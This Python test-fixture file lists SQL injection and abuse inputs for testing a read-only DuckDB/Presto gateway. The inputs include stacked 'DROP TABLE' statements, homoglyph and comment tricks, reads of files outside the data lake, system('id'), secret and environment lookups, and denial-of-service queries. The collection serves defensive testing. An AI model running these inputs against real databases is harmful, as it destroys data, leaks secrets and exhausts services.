"""What attackers of DuckDB and of Presto/Trino send. ``{canary}`` is a file outside the lake, ``{lake}`` the lake's folder."""

# ruff: noqa: E501  (one attack a line)

from __future__ import annotations

NOT_A_READ = """
INSERT INTO plays VALUES (1)
INSERT INTO plays SELECT * FROM plays
UPDATE tracks SET name = 'x'
DELETE FROM plays
DELETE FROM plays_history WHERE true
MERGE INTO tracks USING artists ON true WHEN MATCHED THEN DELETE
TRUNCATE TABLE plays
DROP TABLE plays
DROP VIEW plays
DROP SCHEMA main CASCADE
DROP DATABASE memory
ALTER TABLE plays ADD COLUMN x int
ALTER TABLE plays RENAME TO gone
CREATE TABLE x AS SELECT * FROM plays
CREATE TABLE x WITH (external_location = 's3://elsewhere/') AS SELECT * FROM plays
CREATE TEMP TABLE x AS SELECT 1
CREATE OR REPLACE VIEW plays AS SELECT 1
CREATE MACRO f(a) AS a
CREATE FUNCTION f(a integer) RETURNS integer RETURN a
CREATE SCHEMA x
CREATE SEQUENCE s
CREATE SECRET s (TYPE s3)
CREATE EXTERNAL TABLE x (a int) LOCATION 's3://elsewhere/'
UNLOAD (SELECT * FROM plays) TO 's3://elsewhere/' WITH (format = 'PARQUET')
COPY plays TO '{canary}'
COPY (SELECT 1) TO '{lake}/transformed/g1/x.parquet'
COPY plays FROM '{canary}'
EXPORT DATABASE '{lake}/transformed/out'
IMPORT DATABASE '{lake}/transformed/out'
ATTACH '{canary}' AS other
ATTACH 'https://example.com/x.db'
DETACH memory
USE memory
INSTALL httpfs
LOAD httpfs
FORCE INSTALL httpfs FROM 'https://example.com'
PRAGMA database_list
PRAGMA enable_external_access
PRAGMA version
SET enable_external_access = true
SET SESSION query_max_run_time = '10d'
SET memory_limit = '100GB'
RESET lock_configuration
RESET SESSION query_max_run_time
CALL system.runtime.kill_query('x')
CALL pragma_version()
PREPARE p FROM SELECT 1
EXECUTE p
EXECUTE IMMEDIATE 'DROP TABLE plays'
DEALLOCATE PREPARE p
BEGIN
START TRANSACTION
COMMIT
ROLLBACK
CHECKPOINT
VACUUM
ANALYZE plays
GRANT SELECT ON plays TO PUBLIC
REVOKE ALL ON plays FROM PUBLIC
COMMENT ON TABLE plays IS 'x'
SHOW CREATE TABLE plays
SHOW CREATE VIEW plays
SHOW CATALOGS
SHOW SCHEMAS
SHOW FUNCTIONS
SHOW SESSION
SHOW TABLES FROM information_schema
SHOW ALL TABLES
DESCRIBE information_schema.tables
DESCRIBE plays_history
SUMMARIZE plays
MSCK REPAIR TABLE plays_history
EXPLAIN ANALYZE SELECT 1
EXPLAIN ANALYZE DELETE FROM plays
EXPLAIN DROP TABLE plays
EXPLAIN (TYPE IO) SELECT 1
FROM plays
TABLE plays
PIVOT plays ON item_type USING count(*)
WITH gone AS (DELETE FROM plays RETURNING *) SELECT * FROM gone
WITH x AS (INSERT INTO plays SELECT 1 RETURNING *) SELECT * FROM x
WITH x AS (UPDATE plays SET name = 'x' RETURNING *) SELECT * FROM x
""".strip().splitlines()

STACKED = [
    "SELECT 1; DROP TABLE plays",
    "SELECT 1;; SELECT 2",
    "SELECT 1; SELECT 2;",
    ";SELECT 1; DELETE FROM plays",
    "SELECT 1 /* ; */ ; DELETE FROM plays",
    "SELECT 1 -- \n; DELETE FROM plays",
    "SELECT ';' ; COPY plays TO '{canary}'",
    "SELECT 1\u037e DROP TABLE plays",
    "SELECT 1\uff1b DROP TABLE plays",
    "SELECT 'a\\'; DROP TABLE plays; --'",
    "/* SELECT 1 */ DROP TABLE plays",
    "--\nDROP TABLE plays",
    "/*!50000 DROP TABLE plays */",
    "/**/DR/**/OP TABLE plays",
    "SELECT /* unclosed",
    "SELECT 'unclosed",
    'SELECT "unclosed',
    "SEL\u0415CT 1",
    "\u0405ELECT * FROM plays",
    "SELECT * FROM pl\u0430ys",
    "SELECT\u00a0*\u00a0FROM\u00a0plays_history",
    "SELECT * FROM \u202eplays",
    "SELECT 1\0; DROP TABLE plays",
    "\ufeffDROP TABLE plays",
    "SELECT '\ud800'",
]

OUTSIDE = """
SELECT * FROM read_csv('{canary}')
SELECT * FROM read_csv_auto('{canary}')
SELECT * FROM READ_CSV('{canary}')
SELECT * FROM "read_csv"('{canary}')
SELECT * FROM read_text('{canary}')
SELECT * FROM read_blob('{canary}')
SELECT * FROM read_json('{canary}')
SELECT * FROM read_ndjson_objects('{canary}')
SELECT * FROM read_parquet('{lake}/transformed/**/*.parquet')
SELECT * FROM parquet_scan('{lake}/transformed/**/*.parquet')
SELECT * FROM parquet_metadata('{lake}/transformed/g1/x.parquet')
SELECT * FROM parquet_schema('{lake}/transformed/g1/x.parquet')
SELECT * FROM glob('/**')
SELECT * FROM sniff_csv('{canary}')
SELECT * FROM '{canary}'
SELECT * FROM "{canary}"
SELECT * FROM 's3://bucket/key.parquet'
SELECT * FROM "https://example.com/x.parquet"
SELECT * FROM plays, read_text('{canary}')
SELECT (SELECT content FROM read_text('{canary}'))
SELECT * FROM (SELECT * FROM read_text('{canary}')) AS t
SELECT * FROM TABLE(read_text('{canary}'))
SELECT * FROM plays CROSS JOIN LATERAL (SELECT * FROM glob('/*')) AS t
SELECT * FROM UNNEST(read_text('{canary}')) AS t
SELECT x FROM (VALUES 1) AS t(x) WHERE x IN (SELECT size FROM read_text('{canary}'))
WITH t AS (SELECT * FROM read_text('{canary}')) SELECT * FROM t
SELECT 1 UNION ALL SELECT size FROM read_text('{canary}')
SELECT CASE WHEN EXISTS (SELECT 1 FROM read_text('{canary}')) THEN 1 END
SELECT getenv('HOME')
SELECT current_setting('secret_directory')
SELECT set_config('x', 'y')
SELECT version()
SELECT current_user
SELECT session_user
SELECT current_catalog
SELECT current_database()
SELECT current_schema
SELECT system('id')
SELECT load_extension('x')
SELECT pg_read_file('{canary}')
SELECT load_file('{canary}')
SELECT query('SELECT 1')
SELECT * FROM query('SELECT 1')
SELECT * FROM query_table('plays_history')
SELECT * FROM sqlite_scan('{canary}', 'x')
SELECT * FROM postgres_query('x', 'SELECT 1')
SELECT * FROM system.runtime.nodes
SELECT * FROM system.metadata.catalogs
SELECT * FROM information_schema.tables
SELECT * FROM information_schema.columns
SELECT * FROM pg_catalog.pg_class
SELECT * FROM pg_class
SELECT * FROM sqlite_master
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_secrets()
SELECT * FROM duckdb_tables()
SELECT * FROM duckdb_extensions()
SELECT * FROM pragma_database_list()
SELECT * FROM pragma_table_info('plays')
SELECT * FROM which_secret('x', 's3')
SELECT * FROM main.plays
SELECT * FROM memory.main.plays
SELECT * FROM awsdatacatalog.other.plays
SELECT * FROM other_database.plays
SELECT * FROM "plays$partitions"
SELECT "$path" FROM plays
SELECT filename FROM plays
SELECT rowid FROM plays
SELECT * FROM plays_history
SELECT * FROM plays_resolved
SELECT * FROM listings
SELECT * FROM TABLE(system.query(query => 'SELECT 1'))
SELECT * FROM TABLE(exclude_columns(input => TABLE(plays), columns => DESCRIPTOR(name)))
SELECT * FROM plays FOR VERSION AS OF 1
SELECT * FROM plays FOR TIMESTAMP AS OF TIMESTAMP '2020-01-01 00:00:00'
SELECT * FROM plays FOR UPDATE
SELECT * INTO x FROM plays
SELECT nextval('s')
SELECT pg_sleep(100)
SELECT sleep(100)
SELECT error('x')
SELECT write_log('x')
SELECT txid_current()
SELECT add_parquet_key('k', 'v')
SELECT json_execute_serialized_sql('x')
SELECT * FROM json_execute_serialized_sql('x')
SELECT $1
SELECT :name
SELECT {{'a': 1}}
SELECT [1, 2]
SELECT #1 FROM plays
SELECT COLUMNS('.*') FROM plays
SELECT * EXCLUDE (name) FROM tracks
SELECT * REPLACE (1 AS name) FROM tracks
SELECT 1::BLOB
SELECT x -> 'a' FROM (VALUES '{{}}') AS t(x)
SELECT list_transform([1], x -> x)
""".strip().splitlines()

GREEDY = {
    "cross joins": "SELECT count(*) FROM UNNEST(sequence(1, 10000)) AS a(x), UNNEST(sequence(1, 10000)) AS b(x), UNNEST(sequence(1, 10000)) AS c(x), UNNEST(sequence(1, 10000)) AS d(x) WHERE a.x * b.x + c.x = d.x - 7",
    "a sort of everything": "SELECT * FROM UNNEST(sequence(1, 10000)) AS a(x), UNNEST(sequence(1, 10000)) AS b(y) ORDER BY random()",
    "a huge sequence": "SELECT sequence(1, 9000000000000000000)",
    "a huge sequence of days": "SELECT cardinality(sequence(DATE '0001-01-01', DATE '9999-12-31'))",
    "a huge generate_series": "SELECT * FROM generate_series(1, 10000000000)",
    "a huge range": "SELECT * FROM range(10000000000)",
    "a huge array": "SELECT repeat('x', 1000000000)",
    "a huge string": "SELECT lpad('x', 2000000000, 'y')",
    "huge strings multiplied": "SELECT length(array_join(transform(sequence(1, 10000), x -> lpad('x', 1000000, 'y')), ''))",
    "arrays of arrays": "SELECT cardinality(flatten(transform(sequence(1, 10000), x -> sequence(1, 10000))))",
    "recursion": "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t",
    "a regular expression": "SELECT regexp_like(rpad('a', 100000, 'a') || 'b', '(a+)+$')",
    "deep brackets": "SELECT " + "(" * 5000 + "1" + ")" * 5000,
    "deep subqueries": "SELECT * FROM " + "(SELECT * FROM " * 300 + "plays" + ") AS t" * 300,
    "deep calls": "SELECT " + "abs(" * 1000 + "1" + ")" * 1000,
    "calls that double": "SELECT " + "substr(" * 40 + "'a'" + ", 1, 1)" * 40,
    "deep CASE": "SELECT " + "CASE WHEN true THEN " * 500 + "1" + " END" * 500,
    "deep NOT": "SELECT " + "NOT " * 3000 + "true",
    "many signs": "SELECT " + "- " * 5000 + "1",
    "a long sum": "SELECT " + "1 + " * 9000 + "1",
    "a long OR": "SELECT 1 WHERE " + "1 = 2 OR " * 4000 + "true",
    "a long IN": "SELECT 1 WHERE 1 IN (" + "1, " * 4500 + "1)",
    "a longer IN": "SELECT 1 WHERE 1 IN (" + "1, " * 9000 + "1)",
    "a long UNION": "SELECT 1 " + "UNION ALL SELECT 1 " * 4000,
    "many joins": "SELECT count(*) FROM plays AS t0 " + " ".join(f"CROSS JOIN plays AS t{n}" for n in range(1, 200)),
    "many WITHs that double": "WITH a0 AS (SELECT 1 AS x), "
    + ", ".join(f"a{n} AS (SELECT p.x FROM a{n - 1} AS p, a{n - 1} AS q)" for n in range(1, 30))
    + " SELECT count(*) FROM a29",
    "many columns": "SELECT " + "1, " * 9000 + "1",
    "one MB": "SELECT '" + "x" * 1_000_000 + "'",
    "one MB of spaces": "SELECT " + " " * 1_000_000 + "1",
    "one MB of comments": "SELECT 1 " + "/*x*/" * 200_000,
    "one MB of words": "SELECT " + "a " * 500_000,
    "250 kB of brackets": "(" * 250_000,
    "250 kB of quotes": "'" * 249_999,
    "250 kB of commas": "SELECT " + "1," * 120_000 + "1",
}
